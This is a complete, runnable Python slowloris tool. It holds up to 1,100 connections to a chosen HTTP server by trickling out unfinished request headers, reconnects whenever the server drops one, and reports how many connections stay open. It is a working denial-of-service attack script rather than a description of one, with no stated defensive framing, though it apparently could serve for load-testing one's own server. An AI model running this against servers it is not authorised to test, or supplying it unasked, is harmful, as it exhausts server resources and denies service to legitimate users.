#!/usr/bin/env python3
"""A slowloris HTTP client: many connections that each send a request's
header lines one at a time, never finishing the request.

    slowhttp.py HOST PORT [--conns N] [--interval S] [--duration S]

Opens N connections (non-blocking connects, all at once), sends
"GET /metrics HTTP/1.1" and then one more header line on every
connection every S seconds, for --duration seconds.  A connection the
server closes is opened again at the next round, as slowloris does, so
the client keeps trying to hold N.  Raises its own descriptor limit to
N + 64 (the hard limit allowing).

Every second it prints one line:
    t=SECONDS open=ESTABLISHED pending=CONNECTING closed=BY_SERVER_SO_FAR
and at the end one JSON line with the totals: the most connections
established at once, how many the server closed, how many connects
failed.
"""
import argparse
import errno
import json
import resource
import selectors
import socket
import sys
import time


class Conn:
    __slots__ = ("sock", "state", "lines")

    def __init__(self):
        self.sock = None
        self.state = "idle"     # idle, connecting, open
        self.lines = 0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--conns", type=int, default=1100)
    ap.add_argument("--interval", type=float, default=4.0)
    ap.add_argument("--duration", type=float, default=30.0)
    a = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = a.conns + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE,
                           (min(want, hard) if hard != resource.RLIM_INFINITY else want, hard))

    sel = selectors.DefaultSelector()       # epoll: no FD_SETSIZE limit
    conns = [Conn() for _ in range(a.conns)]
    totals = {"max_open": 0, "closed_by_server": 0, "connect_failed": 0,
              "opened": 0, "lines_sent": 0}

    def drop(c, by_server):
        if c.sock is not None:
            try:
                sel.unregister(c.sock)
            except (KeyError, ValueError):
                pass
            c.sock.close()
        if by_server:
            totals["closed_by_server"] += 1
        c.sock, c.state, c.lines = None, "idle", 0

    def start(c):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        r = s.connect_ex((a.host, a.port))
        if r not in (0, errno.EINPROGRESS):
            s.close()
            totals["connect_failed"] += 1
            return
        c.sock, c.state = s, "connecting"
        sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ, c)

    def send_line(c):
        line = (b"GET /metrics HTTP/1.1\r\n" if c.lines == 0
                else b"X-Slow-%d: %d\r\n" % (c.lines, c.lines))
        try:
            c.sock.send(line)
        except OSError:
            drop(c, True)
            return
        c.lines += 1
        totals["lines_sent"] += 1

    t0 = time.monotonic()
    next_round = t0
    next_report = t0 + 1.0
    while True:
        now = time.monotonic()
        if now - t0 >= a.duration:
            break
        if now >= next_round:
            for c in conns:
                if c.state == "idle":
                    start(c)
                elif c.state == "open":
                    send_line(c)
            next_round = now + a.interval
        for key, ev in sel.select(timeout=0.1):
            c = key.data
            if c.state == "connecting" and ev & selectors.EVENT_WRITE:
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    totals["connect_failed"] += 1
                    drop(c, False)
                    continue
                c.state = "open"
                totals["opened"] += 1
                sel.modify(c.sock, selectors.EVENT_READ, c)
                send_line(c)
            elif ev & selectors.EVENT_READ:
                try:
                    data = c.sock.recv(65536)
                except OSError:
                    data = b""
                if not data:            # the server closed it (or answered: 4xx)
                    drop(c, True)
        n_open = sum(1 for c in conns if c.state == "open")
        totals["max_open"] = max(totals["max_open"], n_open)
        if now >= next_report:
            print("t=%.0f open=%d pending=%d closed=%d" % (
                now - t0, n_open, sum(1 for c in conns if c.state == "connecting"),
                totals["closed_by_server"]), flush=True)
            next_report += 1.0
    print(json.dumps(totals), flush=True)
    for c in conns:
        if c.sock is not None:
            c.sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
